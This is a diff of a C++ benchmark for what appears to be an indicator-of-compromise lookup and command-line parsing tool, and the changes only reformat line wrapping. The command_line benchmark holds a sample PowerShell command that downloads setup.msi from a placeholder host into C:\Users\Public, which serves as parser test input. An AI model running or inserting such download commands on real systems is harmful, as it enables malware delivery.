@@ -20,7 +20,9 @@ Indicator made(std::uint64_t number) {
   std::mt19937_64 random(number);
   Indicator out;
   switch (number % 3) {
-    case 0: return {Kind::kDomain, "h" + std::to_string(random() % 100'000'000) + ".d" + std::to_string(number) + ".example"};
+    case 0:
+      return {Kind::kDomain,
+              "h" + std::to_string(random() % 100'000'000) + ".d" + std::to_string(number) + ".example"};
     case 1:
       out.kind = Kind::kSha256;
       for (int i = 0; i < 4; ++i) {
@@ -64,7 +66,8 @@ void look_up(benchmark::State& state) {
   const bool known = state.range(0) != 0;
   std::vector<Indicator> asked;
   std::mt19937_64 random(5);
-  for (int i = 0; i < 100'000; ++i) asked.push_back(made(known ? random() % kIndicators : kIndicators + random() % kIndicators));
+  for (int i = 0; i < 100'000; ++i)
+    asked.push_back(made(known ? random() % kIndicators : kIndicators + random() % kIndicators));
   std::size_t at = 0, found = 0;
   for (auto _ : state) {
     const Indicator& one = asked[at++ % asked.size()];
@@ -84,8 +87,10 @@ class LookUp final : public KeyReceiver {
 
 void command_line(benchmark::State& state) {
   constexpr std::string_view kLine =
-      "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"Invoke-WebRequest -Uri "
-      "https://cdn.update.example:8443/packages/x64/setup.msi -OutFile C:\\Users\\Public\\setup.msi; ping 198.51.100.7\"";
+      "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command "
+      "\"Invoke-WebRequest -Uri "
+      "https://cdn.update.example:8443/packages/x64/setup.msi -OutFile C:\\Users\\Public\\setup.msi; ping "
+      "198.51.100.7\"";
   TextValues values;
   LookUp receiver;
   for (auto _ : state) values.read(kLine, receiver);
